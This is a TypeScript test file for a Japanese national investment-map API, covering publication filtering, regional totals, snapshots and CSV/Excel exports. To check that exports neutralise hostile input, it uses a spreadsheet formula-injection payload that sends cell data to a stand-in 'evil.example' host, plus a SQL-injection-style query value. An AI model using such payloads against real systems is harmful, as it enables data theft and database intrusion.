/**
 * The 国内投資マップ, its snapshots and the public export, on both databases, with plans taken
 * through the real workflow: only nationally published plans' projects appear (drafts,
 * pre-check and submitted plans never — not on the map, in an export or in a snapshot); totals
 * per prefecture and municipality in 円 and per inhabitant (population imported into the
 * statistics store); filters; a project without a point stands at its municipality; snapshots
 * are the secretariat's; a snapshot compared with the previous one, on screen and in Excel;
 * export cells that would start a formula are neutralised; Shift_JIS CSV.
 */
import { eq } from 'drizzle-orm';
import { beforeAll, expect, it } from 'vitest';
import { createApp } from '../src/http/app.ts';
import { operatorPrincipal } from '../src/modules/auth/index.ts';
import { areas } from '../src/modules/local-gov/index.ts';
import type { completePlan } from '../src/modules/plans/domain/test-plans.ts';
import { publishRevision } from '../src/modules/plans/use-cases/publish-revision.ts';
import { transitionPlan } from '../src/modules/plans/use-cases/transition-plan.ts';
import { updatePlan } from '../src/modules/plans/use-cases/update-plan.ts';
import { REFERENCE_INDICATORS, importStatistics, upsertIndicators } from '../src/modules/statistics/index.ts';
import { loadExcelJS } from '../src/shared/load-exceljs.ts';
import { decodeText } from '../src/shared/text-encoding.ts';
import { describeEachDatabase } from './support/databases.ts';
import { addUser, requester, signIn, type App, type Session } from './support/plan-api.ts';
import { planAt, project } from './support/published-plan.ts';

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"詳細")';
const POPULATION = [
  'area_code,period,indicator,value',
  '160008,2023,population,1010000',
  '160008,2024,population,1000000',
  '162019,2024,400000',
  '162027,2024,160000',
  '170003,2024,1100000',
]
  .map((l) => (l.split(',').length === 3 ? l.replace(/,(\d+)$/, ',population,$1') : l))
  .join('\n');

interface MapBody {
  total: { projects: number; amount_yen: number };
  areas: { code: string; name: string; projects: number; amount_yen: number; amount_per_capita_yen: number | null }[];
  projects: { plan_id: string; project_id: string; title: string; located: string; lat: number; lon: number; plan_url: string; muni_name: string }[];
}

describeEachDatabase('国内投資マップ', (db) => {
  let app: App;
  let api: ReturnType<typeof requester>;
  let secretariat: Session;
  let planner: Session;
  const ids = {} as Record<'toyama' | 'kanazawa' | 'fukui' | 'draft' | 'precheck' | 'submitted', string>;
  const by = operatorPrincipal('test');
  const map = async (query = ''): Promise<MapBody> => {
    const res = await api.get(`/api/v1/investment-map${query}`);
    expect(res.status).toBe(200);
    return (await res.json()) as MapBody;
  };

  beforeAll(async () => {
    const h = db().handle.db;
    app = createApp({ db: h, webRoot: null });
    api = requester(app);
    await addUser(h, 'staff@cas.go.jp', 'editor', '000000', 'cas');
    await addUser(h, 'planner@pref.toyama.lg.jp', 'editor', '160008');
    secretariat = await signIn(app, 'staff@cas.go.jp');
    planner = await signIn(app, 'planner@pref.toyama.lg.jp');
    await upsertIndicators(
      h,
      REFERENCE_INDICATORS.filter((i) => i.code === 'population'),
    );
    await importStatistics(h, { bytes: new TextEncoder().encode(POPULATION), file: 'population.csv', actor: 'test:statistics' });
    ids.toyama = await planAt(h, 'published', {
      title: HYPERLINK,
      investments: [
        project('inv-api', '原薬工場の新設', '162019', '100億', { point: { lat: 36.7, lon: 137.21 } }),
        project('inv-qa', '共同品質試験センター', '162027', '50億', { invest_date: '2028-05' }),
      ],
    });
    ids.kanazawa = await planAt(h, 'published', {
      title: '石川県 医薬品計画',
      owner: '170003',
      investments: [project('inv-k', '金沢の製剤工場', '172014', '30億', { invest_date: '2026-04' })],
    });
    for (const stage of ['draft', 'precheck', 'submitted'] as const) {
      ids[stage] = await planAt(h, stage, { title: `SECRET ${stage}`, investments: [project(`secret-${stage}`, `SECRET-${stage}`, '162019', '999億')] });
    }
  });

  it('shows only the published plans’ projects, with prefecture totals in 円 and per inhabitant', async () => {
    const body = await map();
    expect(JSON.stringify(body)).not.toContain('SECRET');
    expect(body.areas).toHaveLength(47);
    expect(body.total).toMatchObject({ projects: 3, amount_yen: 18_000_000_000 });
    expect(body.areas.find((a) => a.code === '160008')).toMatchObject({ name: '富山県', projects: 2, amount_yen: 15_000_000_000, amount_per_capita_yen: 15_000 });
    expect(body.areas.find((a) => a.code === '170003')).toMatchObject({ name: '石川県', projects: 1, amount_yen: 3_000_000_000, amount_per_capita_yen: 2_727 });
    expect(body.areas.find((a) => a.code === '130001')).toMatchObject({ projects: 0, amount_yen: 0, amount_per_capita_yen: null });
    expect(body.projects.find((p) => p.project_id === 'inv-api')).toMatchObject({ plan_id: ids.toyama, plan_url: `/plans/${ids.toyama}`, muni_name: '富山市' });
  });

  it('totals per municipality with per capita, and places a project without a point at its municipality', async () => {
    const body = await map('?level=municipality');
    expect(body.areas.map((a) => [a.code, a.projects, a.amount_yen, a.amount_per_capita_yen])).toEqual([
      ['162019', 1, 10_000_000_000, 25_000],
      ['162027', 1, 5_000_000_000, 31_250],
      ['172014', 1, 3_000_000_000, null],
    ]);
    const [takaoka] = await db().handle.db.select().from(areas).where(eq(areas.code, '162027'));
    expect(body.projects.find((p) => p.project_id === 'inv-qa')).toMatchObject({ located: 'municipality', lat: takaoka!.lat, lon: takaoka!.lng });
    expect(body.projects.find((p) => p.project_id === 'inv-api')).toMatchObject({ located: 'point', lat: 36.7, lon: 137.21 });
  });

  it('filters by 年度, type and status, and refuses bad filters in Japanese without a 5xx', async () => {
    expect((await map('?year_from=2027')).projects.map((p) => p.project_id).sort()).toEqual(['inv-api', 'inv-qa']);
    expect((await map('?year_to=2027')).projects.map((p) => p.project_id).sort()).toEqual(['inv-api', 'inv-k']);
    expect((await map('?year_from=2028&year_to=2028')).total).toMatchObject({ projects: 1, amount_yen: 5_000_000_000 });
    expect((await map('?type=A')).total.projects).toBe(0);
    expect((await map('?type=B,C')).total.projects).toBe(3);
    expect((await map('?status=withdrawn')).total.projects).toBe(0);
    expect((await map(`?field=${encodeURIComponent('AI・半導体')}`)).total.projects).toBe(0);
    // one plan's projects (its page's small map); an unpublished plan's are not there either
    expect((await map(`?plan_id=${ids.kanazawa}`)).projects.map((p) => p.project_id)).toEqual(['inv-k']);
    expect((await map(`?plan_id=${ids.submitted}`)).total.projects).toBe(0);
    for (const bad of ['?year_from=2030&year_to=2027', '?type=D', '?level=city', '?status=draft', '?field=x', '?year_from=abc', '?plan_id=x%27%20or%201=1']) {
      const res = await api.get(`/api/v1/investment-map${bad}`);
      expect(res.status, bad).toBe(400);
      expect(JSON.stringify(await res.json())).toMatch(/[ぁ-んァ-ヶ一-龠]/);
    }
  });

  it('exports every published plan as JSON, CSV (formulas neutralised; Shift_JIS) and Excel, and nothing unpublished', async () => {
    const json = (await (await api.get('/api/v1/plans/export')).json()) as { count: number; plans: { id: string; content: { investments: unknown[] } }[] };
    expect(json.count).toBe(2);
    expect(json.plans.map((p) => p.id).sort()).toEqual([ids.toyama, ids.kanazawa].sort());
    expect(JSON.stringify(json)).not.toContain('SECRET');

    const csv = await api.get('/api/v1/plans/export?format=csv');
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const bytes = new Uint8Array(await csv.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text).not.toContain('SECRET');
    expect(text.split('\r\n')).toHaveLength(4); // header, 2 plans, final line end
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""詳細"")"`);
    expect(text).toContain('"=""160008"""');

    const sjis = new Uint8Array(await (await api.get('/api/v1/plans/export?format=csv&encoding=sjis')).arrayBuffer());
    const decoded = decodeText(sjis, 'sjis');
    expect(decoded.text).toContain('石川県 医薬品計画');
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(sjis)).toThrow();

    const xlsx = await api.get('/api/v1/plans/export?format=xlsx');
    const ExcelJS = await loadExcelJS();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await xlsx.arrayBuffer());
    expect(wb.worksheets.map((w) => w.name)).toEqual(['計画', 'KGI', '投資案件']);
    const titles = (wb.getWorksheet('計画')!.getColumn(4).values as unknown[]).slice(2);
    expect(titles).toContain(`'${HYPERLINK}`);
    const inv = wb.getWorksheet('投資案件')!;
    expect(inv.rowCount).toBe(4);
    const codes = (inv.getColumn(11).values as unknown[]).slice(2);
    expect(codes.sort()).toEqual(['162019', '162027', '172014']);
    expect(JSON.stringify(wb.worksheets.map((w) => w.getSheetValues()))).not.toContain('SECRET');
  });

  let first = '';
  it('lets only the secretariat publish a snapshot, and keeps only published projects in it', async () => {
    expect((await api.post('/api/v1/investment-map/snapshots', { title: '2026年度末' }, planner)).status).toBe(403);
    expect((await api.post('/api/v1/investment-map/snapshots', { title: '2026年度末' })).status).toBeGreaterThanOrEqual(401);
    expect((await api.post('/api/v1/investment-map/snapshots', { title: '', as_of: '2027-03-31' }, secretariat)).status).toBe(400);
    expect((await api.post('/api/v1/investment-map/snapshots', { title: 'x', as_of: '2027-02-30' }, secretariat)).status).toBe(400);
    const res = await api.post('/api/v1/investment-map/snapshots', { title: '2026年度末', as_of: '2027-03-31' }, secretariat);
    expect(res.status).toBe(201);
    first = ((await res.json()) as { id: string }).id;
    const list = (await (await api.get('/api/v1/investment-map/snapshots')).json()) as { snapshots: { id: string; projects: number; amount_yen: number }[] };
    expect(list.snapshots).toEqual([expect.objectContaining({ id: first, projects: 3, amount_yen: 18_000_000_000 })]);
    expect(JSON.stringify(await (await api.get(`/api/v1/investment-map/snapshots/${first}`)).json())).not.toContain('SECRET');
    const cmp = (await (await api.get(`/api/v1/investment-map/snapshots/${first}/compare`)).json()) as { before: unknown; added: unknown[] };
    expect(cmp.before).toBeNull();
    expect(cmp.added).toHaveLength(3);
  });

  it('compares a snapshot with the previous one (added, removed, changed, by prefecture), on screen and in Excel', async () => {
    const h = db().handle.db;
    ids.fukui = await planAt(h, 'published', { title: '福井県 𠮷田町 計画', owner: '180009', investments: [project('inv-f', '福井の新工場', '182010', '20億')] });
    await transitionPlan(h, { id: ids.kanazawa, action: 'withdraw', comment: '撤退基準に該当したため' }, by);
    const current = (await (await api.get(`/api/v1/plans/${ids.toyama}`, secretariat)).json()) as { version: number; content: ReturnType<typeof completePlan> };
    const content = { ...current.content, investments: current.content.investments.map((i) => (i.id === 'inv-api' ? { ...i, amount_yen: 12_000_000_000 } : i)) };
    await updatePlan(h, { id: ids.toyama, baseVersion: current.version, content }, by);
    await publishRevision(h, ids.toyama, '投資額の見直し', by);
    const res = await api.post('/api/v1/investment-map/snapshots', { title: '2027年度上期', as_of: '2027-09-30' }, secretariat);
    const second = ((await res.json()) as { id: string }).id;

    const cmp = (await (await api.get(`/api/v1/investment-map/snapshots/${second}/compare`)).json()) as {
      before: { id: string };
      added: { project_id: string }[];
      removed: { project_id: string }[];
      changed: { project_id: string; fields: string[]; delta: number }[];
      unchanged: number;
      by_prefecture: { pref_code: string; pref_name: string; delta: number; before_projects: number; after_projects: number }[];
    };
    expect(cmp.before.id).toBe(first);
    expect(cmp.added.map((p) => p.project_id)).toEqual(['inv-f']);
    expect(cmp.removed.map((p) => p.project_id)).toEqual(['inv-k']);
    expect(cmp.changed).toEqual([expect.objectContaining({ project_id: 'inv-api', fields: ['amount_yen'], delta: 2_000_000_000 })]);
    expect(cmp.unchanged).toBe(1);
    expect(cmp.by_prefecture.map((m) => [m.pref_code, m.pref_name, m.delta, m.before_projects, m.after_projects])).toEqual([
      ['16', '富山県', 2_000_000_000, 2, 2],
      ['17', '石川県', -3_000_000_000, 1, 0],
      ['18', '福井県', 2_000_000_000, 0, 1],
    ]);

    const xlsx = await api.get(`/api/v1/investment-map/snapshots/${second}/compare?format=xlsx`);
    expect(xlsx.headers.get('content-disposition')).toContain('.xlsx');
    const ExcelJS = await loadExcelJS();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await xlsx.arrayBuffer());
    expect(wb.worksheets.map((w) => w.name)).toEqual(['概要', '都道府県別', '追加', '削除', '変更']);
    expect(wb.getWorksheet('追加')!.getRow(2).getCell(2).value).toBe('inv-f');
    expect(wb.getWorksheet('削除')!.getRow(2).getCell(2).value).toBe('inv-k');
    expect(wb.getWorksheet('変更')!.getRow(2).getCell(7).value).toBe(2_000_000_000);
    expect(wb.getWorksheet('都道府県別')!.getRow(3).values).toEqual([undefined, '17', '石川県', 1, 0, 3_000_000_000, 0, -3_000_000_000]);
    expect((await api.get('/api/v1/investment-map/snapshots/nope/compare')).status).toBe(404);
    // a character Shift_JIS lacks: a clear Japanese refusal naming it, never a 5xx; UTF-8 still has it
    const sjis = await api.get('/api/v1/plans/export?format=csv&encoding=sjis');
    expect(sjis.status).toBe(400);
    expect(JSON.stringify(await sjis.json())).toContain('𠮷');
    expect(await (await api.get('/api/v1/plans/export?format=csv')).text()).toContain('福井県 𠮷田町 計画');
    expect((await api.get(`/api/v1/investment-map/snapshots/${second}/compare?against=${second}`)).status).toBe(400);
  });
});
